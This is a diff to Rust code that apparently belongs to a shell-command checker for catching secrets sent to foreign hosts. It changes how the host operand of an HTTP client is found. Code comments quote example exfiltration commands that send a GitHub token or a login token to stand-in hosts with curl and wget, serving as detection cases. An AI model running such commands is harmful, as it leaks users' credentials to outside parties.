@@ -174,7 +174,7 @@ fn piped_to_another_host(call: &Call) -> Option<String> {
         let args = reader.args();
         let mut hosts: Vec<&str> = args.iter().filter_map(|a| host_of(&a.text)).collect();
         if hosts.is_empty() {
-            hosts.extend(operand_host(args));
+            hosts.extend(operand_host(name, args));
         }
         // A bare name is no compose service for a login's token (`curl -d @- evil`).
         let belongs = |host: &&str| {
@@ -1476,7 +1476,8 @@ fn sent_elsewhere(name: &str, command: &SimpleCommand) -> Option<String> {
         // configuration; a host it spells must be the secret's own, also in a URL written
         // without its scheme (`wget "x.example/?k=$GITHUB_TOKEN"`, `curl -d "$(gh auth token)"
         // x.example`).
-        let bare = hosts.is_empty().then(|| bare_host(&arg.text).or_else(|| operand_host(args))).flatten();
+        let bare =
+            hosts.is_empty().then(|| bare_host(&arg.text).or_else(|| operand_host(name, args))).flatten();
         if !hosts.iter().chain(&bare).all(|host| belongs(host)) {
             return Some(secret);
         }
@@ -1497,7 +1498,7 @@ fn bare_host(text: &str) -> Option<&str> {
 
 /// The host of an HTTP client's address written without its scheme: its first operand, which
 /// is neither an option's value nor computed (`curl -d @- x.example/p` -> `x.example`).
-fn operand_host(args: &[Word]) -> Option<&str> {
+fn operand_host<'a>(client: &str, args: &'a [Word]) -> Option<&'a str> {
     let mut value = false;
     let operand = args.iter().find(|arg| {
         let text = arg.text.as_str();
@@ -1505,7 +1506,7 @@ fn operand_host(args: &[Word]) -> Option<&str> {
             return false;
         }
         let option = text.starts_with('-') && text.len() > 1;
-        value = option && super::HTTP_VALUED.contains(&text);
+        value = option && super::http_valued(client).contains(&text);
         !option
     })?;
     if operand.dynamic || operand.text.starts_with('@') || operand.text.contains('=') {
